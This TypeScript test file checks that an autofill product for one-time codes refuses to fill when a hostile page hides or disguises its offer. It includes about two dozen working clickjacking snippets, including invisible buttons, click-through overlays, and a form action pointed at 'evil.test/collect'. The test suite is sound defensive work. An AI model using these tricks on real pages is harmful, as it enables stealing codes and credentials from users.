/**
 * A linked page that has turned against its visitor changes how its own field,
 * form and our offer look, stand or belong, so that a person clicks on what they
 * cannot see: clickjacking in all its forms, with a real mouse. Where the product
 * is in doubt it may open its own popup; a code in the page would be the theft.
 */
import { describe, expect, test } from 'vitest';
import {
  askingPage,
  BANK,
  bringOffer,
  EVIL,
  middleOfOffer,
  openStage,
  pressWhere,
  type Stage,
  stolen,
} from '@/test/support/hostile';
import { PLAIN_VIEW_TIME } from '@/test/support/product';
import { useJourney, useLinkedAccount } from '@/test/support/use-journey';
import { pause } from '@/test/support/wait';

const PAGES = { [BANK]: askingPage(), [EVIL]: askingPage() };
const HOST = 'div[popover="manual"]';

const journey = useJourney();
const vault = useLinkedAccount(journey, [BANK]);

async function openBank(): Promise<Stage> {
  const stage = await openStage(journey.browser, PAGES, BANK);
  await bringOffer(stage);
  return stage;
}

test('without a trick the very same click fills', async () => {
  const stage = await openBank();
  const { page } = stage;
  await pressWhere(page, await middleOfOffer(page));
  expect(vault.codes).toContain(await page.locator('input[name=otp]').inputValue());
  expect(await stolen(stage, vault.codes)).not.toEqual([]);
});

/** Runs in the page, with the offer's host, half a second and more before the click. */
type Trick = (host: HTMLElement) => unknown;

const TRICKS: readonly (readonly [name: string, trick: Trick])[] = [
  ['the button is made transparent', (host) => host.style.setProperty('opacity', '0', 'important')],
  ['the button is filtered away', (host) => host.style.setProperty('filter', 'opacity(0)', 'important')],
  ['the button is clipped to nothing', (host) => host.style.setProperty('clip-path', 'inset(49%)', 'important')],
  ['the button is blown up beyond the screen', (host) => host.style.setProperty('scale', '20', 'important')],
  ['the button is masked', (host) => host.style.setProperty('mask', 'linear-gradient(#0000,#0000)', 'important')],
  [
    'the whole page is made transparent',
    () => {
      document.documentElement.style.opacity = '0.01';
    },
  ],
  [
    'the page is blown up by zoom',
    () => {
      document.documentElement.style.zoom = '3';
    },
  ],
  [
    'the page is zoomed to and fro',
    () => {
      const { style } = document.documentElement;
      setInterval(() => {
        style.zoom = style.zoom === '1.1' ? '1' : '1.1';
      }, 100);
    },
  ],
  [
    'the page is zoomed by the press',
    () => {
      const zoom = () => {
        document.documentElement.style.zoom = '1.05';
      };
      window.addEventListener('pointerdown', zoom, true);
    },
  ],
  [
    'the field is made transparent',
    () => {
      (document.querySelector('input') as HTMLElement).style.opacity = '0';
    },
  ],
  [
    'the field shrinks to a pixel',
    () => {
      (document.querySelector('input') as HTMLElement).style.cssText = 'width:1px;height:1px;padding:0;border:0';
    },
  ],
  [
    'the form is faded behind the field’s back',
    () => {
      (document.querySelector('form') as HTMLElement).style.opacity = '0.2';
    },
  ],
  [
    'a popover that lets clicks through comes over it again and again',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<div id=c popover=manual style="inset:0;width:100vw;height:100vh;margin:0;border:0;pointer-events:none">Win!</div>',
      );
      setInterval(() => {
        document.getElementById('c')?.hidePopover();
        document.getElementById('c')?.showPopover();
      }, 50);
    },
  ],
  [
    'a popover covers half of it again and again',
    (host) => {
      const { left, top, width, height } = host.getBoundingClientRect();
      const style = `left:${left}px;top:${top}px;width:${width / 2}px;height:${height}px`;
      document.body.insertAdjacentHTML(
        'beforeend',
        `<div id=c popover=manual style="inset:auto;${style};margin:0;border:0;padding:0;pointer-events:none;background:#fff">Play</div>`,
      );
      setInterval(() => {
        document.getElementById('c')?.hidePopover();
        document.getElementById('c')?.showPopover();
      }, 50);
    },
  ],
  [
    'the backdrop of another popover covers it again and again',
    () => {
      document.head.insertAdjacentHTML(
        'beforeend',
        '<style>#c::backdrop{background:#fff;opacity:1;pointer-events:none}</style>',
      );
      document.body.insertAdjacentHTML('beforeend', '<div id=c popover=manual style="pointer-events:none">Win!</div>');
      setInterval(() => {
        document.getElementById('c')?.hidePopover();
        document.getElementById('c')?.showPopover();
      }, 50);
    },
  ],
  [
    'the button is made visible only for the press',
    (host) => {
      host.style.setProperty('opacity', '0', 'important');
      const uncover = () => host.style.setProperty('opacity', '1', 'important');
      window.addEventListener('pointerdown', uncover, true);
      window.addEventListener('mousemove', uncover, true);
    },
  ],
  [
    'a modal dialog that lets clicks through lies over it',
    () => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<dialog style="inset:0;width:100vw;height:100vh;max-width:none;max-height:none;pointer-events:none">Win!</dialog>',
      );
      document.querySelector('dialog')?.showModal();
    },
  ],
  [
    'something in full screen lies over it',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<div id=c style="background:#fff;pointer-events:none">Win!</div>');
      return document.getElementById('c')?.requestFullscreen();
    },
  ],
  [
    'the picture of a view transition lies over it',
    () => {
      document.head.insertAdjacentHTML(
        'beforeend',
        `<style>::view-transition{pointer-events:none}
::view-transition-old(root){animation:hold 60s;opacity:1;mix-blend-mode:normal}
::view-transition-new(root){animation:none;opacity:0}
@keyframes hold{from,to{opacity:1}}</style>`,
      );
      const start = (document as unknown as { startViewTransition(change: () => void): unknown }).startViewTransition;
      start.call(document, () => {
        document.body.style.background = '#eee';
      });
    },
  ],
  [
    'the button is hung into a transparent part of the page',
    (host) => {
      document.body.insertAdjacentHTML('beforeend', '<div id=c style="opacity:0.01"></div>');
      document.getElementById('c')?.append(host);
      try {
        host.showPopover();
      } catch {
        // It has taken itself away.
      }
    },
  ],
  [
    'the button is taken off and put back all the time',
    (host) => {
      setInterval(() => {
        if (!host.isConnected) return;
        host.hidePopover();
        host.showPopover();
      }, 20);
    },
  ],
  [
    'the field is exchanged for another of the same looks',
    () => {
      const field = document.querySelector('input') as HTMLElement;
      field.replaceWith(field.cloneNode());
    },
  ],
  [
    'the field’s form is led astray meanwhile',
    () => {
      (document.querySelector('form') as HTMLFormElement).action = 'https://evil.test/collect';
    },
  ],
  [
    'another document takes the field in',
    () => {
      document.body.insertAdjacentHTML('beforeend', '<iframe style="opacity:0"></iframe>');
      const inner = document.querySelector('iframe')?.contentDocument;
      inner?.body.append(inner.adoptNode(document.querySelector('input') as Element));
    },
  ],
  [
    'the press itself leads to another site',
    () => {
      window.addEventListener('pointerdown', () => location.assign('https://evil.test/'), true);
    },
  ],
  [
    'the press itself writes the page anew',
    () => {
      const again = document.documentElement.outerHTML;
      window.addEventListener(
        'pointerdown',
        () => {
          document.open();
          document.write(again);
          document.close();
        },
        true,
      );
    },
  ],
];

describe('no code for a click on what a person could not see', () => {
  test.each(TRICKS)('%s', async (_name, trick) => {
    const stage = await openBank();
    const { page } = stage;
    const at = await middleOfOffer(page);
    await page.locator(HOST).evaluate(trick);
    await pause(PLAIN_VIEW_TIME);
    await pressWhere(page, at);
    expect(await stolen(stage, vault.codes)).toEqual([]);
  });
});
